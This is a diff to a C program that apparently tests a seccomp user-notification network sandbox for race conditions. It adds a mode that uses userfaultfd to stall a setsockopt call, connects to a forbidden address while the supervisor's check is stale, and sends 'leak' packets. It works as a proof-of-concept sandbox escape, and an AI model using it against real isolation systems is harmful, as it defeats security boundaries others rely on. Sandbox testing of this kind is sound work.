@@ -5,6 +5,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/seccomp.h>
+#include <linux/userfaultfd.h>
 #include <netinet/in.h>
 #include <pthread.h>
 #include <signal.h>
@@ -12,6 +13,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -78,6 +80,35 @@ static void *swapping(void *unused) {
 /* A descriptor is of AF_UNIX when it is looked at, and of TCP when the call goes on. */
 static void descriptor(void) { connect(fd, (struct sockaddr *) &forbidden, sizeof forbidden); }
 
+static char *page;
+
+static void *choosing(void *unused) {
+    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, page, sizeof "cable");
+    return NULL;
+}
+
+/* The name of a network device comes to memory after the socket was connected. */
+static void device(void) {
+    int faults = syscall(SYS_userfaultfd, O_CLOEXEC);
+    struct uffdio_api api = {.api = UFFD_API};
+    ioctl(faults, UFFDIO_API, &api);
+    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    struct uffdio_register range = {.range = {(unsigned long) page, 4096},
+                                    .mode = UFFDIO_REGISTER_MODE_MISSING};
+    ioctl(faults, UFFDIO_REGISTER, &range);
+    pthread_t thread;
+    pthread_create(&thread, NULL, choosing, NULL);
+    struct uffd_msg fault;
+    if (read(faults, &fault, sizeof fault) < 0) perror("userfaultfd");
+    connect(fd, (struct sockaddr *) &forbidden, sizeof forbidden);
+    static char name[4096] = "cable";
+    struct uffdio_copy copy = {.dst = (unsigned long) page, .src = (unsigned long) name, .len = 4096};
+    ioctl(faults, UFFDIO_COPY, &copy);
+    pthread_join(thread, NULL);
+    for (int i = 0; i < 2; i++) send(fd, "leak", 4, MSG_NOSIGNAL);
+    printf("tried 1 times\n");
+}
+
 static void *answering(void *unused) {
     struct seccomp_notif call;
     while (memset(&call, 0, sizeof call), 1) {
@@ -137,6 +168,9 @@ int main(int argc, char **argv) {
         fd = socket(AF_INET, SOCK_DGRAM, 0);
         connect(fd, (struct sockaddr *) &local, sizeof local);
         race(flipping, name, tries);
+    } else if (!strcmp(argv[1], "device")) {
+        fd = socket(AF_INET, SOCK_DGRAM, 0);
+        device();
     } else if (!strcmp(argv[1], "only")) {
         fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
         race(toggling, only, tries);
